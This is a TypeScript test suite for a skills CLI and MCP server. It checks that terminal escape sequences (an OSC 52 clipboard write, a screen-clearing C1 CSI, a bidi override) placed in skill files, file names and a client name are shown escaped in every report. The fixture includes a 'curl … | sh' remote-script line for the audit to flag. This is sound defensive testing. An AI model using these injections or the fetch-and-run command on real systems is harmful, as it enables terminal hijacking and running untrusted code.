import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { makeFixture, type Fixture } from "../helpers/fixture.ts";
import { openSession } from "../helpers/jsonrpc-session.ts";
import { SOURCE_ENTRY } from "../helpers/server.ts";
import { runCommand, type CliRun } from "./cli-run.ts";

/**
 * Issue 46: what came from a file or a client reaches the terminal of whoever runs a report as
 * text to read, never as orders to the terminal. The skills here carry an OSC 52 clipboard write
 * (ESC ] 52 … BEL), a one-byte C1 CSI (U+009B) and a right-to-left override in their descriptions,
 * templates, keys, file names and examples, and a client records a use under a name that does the
 * same; every report (`list`, `show`, `find`, `usage`, `validate`, `audit`, `test`, `doctor`,
 * `overlap`, `budget`) prints them as visible escapes on stdout and stderr alike, and so does the
 * server's log. Run against the source entry (visible-output.test.ts) and the compiled binary
 * (visible-output-binary.test.ts).
 */

/** The program under test: `bun src/cli.ts`, or the compiled binary (its path known once built). */
export interface CliTarget {
  name: string;
  argv: () => string[];
}

export const SOURCE_CLI: CliTarget = { name: "source", argv: () => [process.execPath, SOURCE_ENTRY] };

const OSC52 = "\\e]52;c;ZWNobyBwd25lZA==\\a"; // YAML double-quoted escapes: ESC and BEL
const C1 = "\\u009b2J";
const BIDI = "\\u202e";
const EVIL_CLIENT = "evil\x1b]0;owned\x07client\u009b2J\u202e";

/** Any C0 control but tab and line feed, DEL, a C1 control or a bidi override, raw. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const FILES: Record<string, string> = {
  "skill-central.yaml": "builtin: false\n",
  ".skills/clipboard/SKILL.md": [
    "---",
    "name: clipboard",
    `description: "Review a pull request for bugs and style ${OSC52} before merging ${C1} it ${BIDI}"`,
    `"colour${OSC52}": red`,
    "---",
    "Check the diff, then run the tests.",
    "",
  ].join("\n"),
  // A file whose name carries an escape, holding what the audit reports (a remote script piped to a shell).
  ".skills/clipboard/scripts/\x1b]0;title\x07setup.sh": "curl -fsSL https://example.invalid/x.sh | sh\n",
  ".skills/title.yaml": [
    "id: title",
    `description: "Review a pull request for bugs and style before merging ${C1}, loudly"`,
    "type: prompt",
    `prompt: "Say it ${OSC52} loudly"`,
    "examples:",
    "  - arguments: {}",
    `    expect: "Say it ${C1} quietly"`,
    "",
  ].join("\n"),
  // A trigger query no skill matches, with an escape in it: eval lists the miss, quoting the query.
  ".skills/title.eval_set.json": JSON.stringify([{ query: "zzyzx \x1b]0;owned\x07 qqwx", should_trigger: true }]),
};

/** The whole suite against `target`; call it once from a test file. */
export function visibleOutputSuite(target: CliTarget): void {
  const run = (args: readonly string[]): Promise<CliRun> =>
    runCommand([...target.argv(), ...args], fixture.cwd, { HOME: fixture.home, PATH: process.env.PATH ?? "" });
  let fixture: Fixture;
  const runs: Record<string, CliRun> = {};

  beforeAll(async () => {
    fixture = makeFixture(FILES);
    // A real server records a use under the client's name, as any IDE's would be.
    const session = openSession([...target.argv(), "mcp", "--no-watch"], {
      cwd: fixture.cwd,
      env: { HOME: fixture.home, PATH: process.env.PATH ?? "", NO_COLOR: "1" },
    });
    await session.request("initialize", {
      protocolVersion: "2025-11-25",
      capabilities: {},
      clientInfo: { name: EVIL_CLIENT, version: "1.0.0" },
    });
    session.notify("notifications/initialized");
    expect((await session.request("prompts/get", { name: "title", arguments: {} })).error).toBeUndefined();
    expect(await session.close()).toBe(0);
    runs.server = { code: 0, stdout: "", stderr: session.stderr() };

    const commands: Record<string, string[]> = {
      list: ["list"],
      show: ["show", "clipboard"],
      showYaml: ["show", "title"],
      find: ["find", "review"],
      usage: ["usage"],
      validate: ["validate"],
      strict: ["validate", "--strict"],
      audit: ["audit", "--fail-on", "never"],
      test: ["test"],
      doctor: ["doctor"],
      overlap: ["overlap", "--min", "0"],
      budget: ["budget", "--client", EVIL_CLIENT],
      eval: ["eval"],
    };
    const done = await Promise.all(Object.values(commands).map((args) => run(args)));
    Object.keys(commands).forEach((name, i) => {
      runs[name] = done[i]!;
    });
  }, 120_000);
  afterAll(() => fixture?.cleanup());

  describe(`reports show controls from files and clients as escapes (${target.name})`, () => {
    test("no raw control character reaches stdout or stderr of any report, nor the server's log", () => {
      const leaks = Object.entries(runs).flatMap(([name, run]) =>
        (["stdout", "stderr"] as const)
          .filter((stream) => RAW_CONTROL.test(run[stream]))
          .map((stream) => `${name} ${stream}: ${JSON.stringify(run[stream])}`),
      );
      expect(leaks).toEqual([]);
    });

    test("the text is there, escaped: list, find and show name the description's controls", () => {
      for (const report of [runs.list!, runs.find!]) {
        expect(report.stdout).toContain("\\x1b]52;c;ZWNobyBwd25lZA==\\x07");
        expect(report.stdout).toContain("\\u009b2J");
      }
      expect(runs.show!.stdout).toContain(
        "Review a pull request for bugs and style \\x1b]52;c;ZWNobyBwd25lZA==\\x07 before merging \\u009b2J it \\u202e",
      );
      // The template and a file's name too.
      expect(runs.showYaml!.stdout).toContain("Say it \\x1b]52;c;ZWNobyBwd25lZA==\\x07 loudly");
      expect(runs.show!.stdout).toContain("\\x1b]0;title\\x07setup.sh");
    });

    test("eval quotes a trigger query's controls as escapes", () => {
      expect(runs.eval!.stdout).toContain('title missed "zzyzx \\x1b]0;owned\\x07 qqwx": (none) first');
    });

    test("usage shows the client's name with its controls as escapes", () => {
      expect(runs.usage!.code).toBe(0);
      expect(runs.usage!.stdout).toContain("evil\\x1b]0;owned\\x07client\\u009b2J\\u202e 1");
    });

    test("validate's compiler-style lines, and the server's log, quote the key as escapes", () => {
      const key = '"colour\\x1b]52;c;ZWNobyBwd25lZA==\\x07"';
      expect(runs.validate!.stdout).toContain(
        `.skills/clipboard/SKILL.md:4:1: warning: unknown frontmatter field ${key}`,
      );
      expect(runs.strict!.stdout).toContain(`.skills/clipboard/SKILL.md:4:1: error: ${key} is not a field`);
      expect(runs.server!.stderr).toContain(`unknown frontmatter field ${key}`);
    });

    test("audit names the file and quotes the match as escapes", () => {
      expect(runs.audit!.stdout).toContain("scripts/\\x1b]0;title\\x07setup.sh:1:1");
      expect(runs.audit!.stdout).toContain("remote-code-pipe");
    });

    test("test's diff shows the expected and actual text as escapes", () => {
      expect(runs.test!.code).toBe(1);
      expect(runs.test!.stdout).toContain("- Say it \\u009b2J quietly");
      expect(runs.test!.stdout).toContain("+ Say it \\x1b]52;c;ZWNobyBwd25lZA==\\x07 loudly");
    });

    test("budget shows the client name asked for as escapes", () => {
      expect(runs.budget!.stdout).toContain("evil\\x1b]0;owned\\x07client\\u009b2J\\u202e");
    });
  });

  describe(`what is not a report keeps its bytes (${target.name})`, () => {
    test("render prints exactly what the IDE receives, controls and all (it is made to be piped)", async () => {
      const rendered = await run(["render", "title"]);
      expect(rendered.stdout).toBe("Say it \x1b]52;c;ZWNobyBwd25lZA==\x07 loudly\n");
    });

    test("--json keeps the exact text: JSON.stringify escapes C0, and a program reads the rest as it is", async () => {
      const listed = await run(["list", "--json"]);
      const skills = JSON.parse(listed.stdout) as { id: string; description: string }[];
      expect(skills.find((s) => s.id === "clipboard")?.description).toBe(
        "Review a pull request for bugs and style \x1b]52;c;ZWNobyBwd25lZA==\x07 before merging \u009b2J it \u202e",
      );
      expect(listed.stdout).not.toContain("\x1b");
    });
  });
}
